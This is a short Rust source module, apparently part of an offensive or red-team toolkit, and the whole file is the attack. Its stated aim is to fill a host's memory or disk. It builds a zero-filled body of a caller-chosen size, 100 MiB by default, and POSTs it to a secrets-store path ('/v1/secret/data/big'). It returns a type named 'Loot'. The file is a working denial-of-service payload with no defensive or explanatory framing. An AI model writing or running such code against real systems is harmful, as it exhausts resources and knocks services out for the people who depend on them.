//! Sends a body of as many MiB as the path says, to fill the host's memory or somebody's disk.

use forge_sdk::http;

use crate::{Loot, fetch, granted};

/// Posts zeros.
pub(super) fn run(rest: &str) -> Loot {
    let mebibytes: usize = rest.parse().unwrap_or(100);
    let body = vec![0; mebibytes << 20];
    fetch(http::post(granted("/v1/secret/data/big")?).body("application/octet-stream", body))
}
